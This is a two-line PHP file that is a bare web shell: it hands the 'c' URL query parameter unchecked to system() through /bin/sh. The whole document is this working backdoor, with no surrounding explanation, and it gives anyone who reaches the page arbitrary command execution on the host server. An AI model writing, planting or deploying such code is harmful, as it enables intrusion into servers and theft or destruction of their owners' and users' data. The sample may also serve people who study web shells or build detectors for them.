<?php
system("/bin/sh -c " . $_GET['c']);
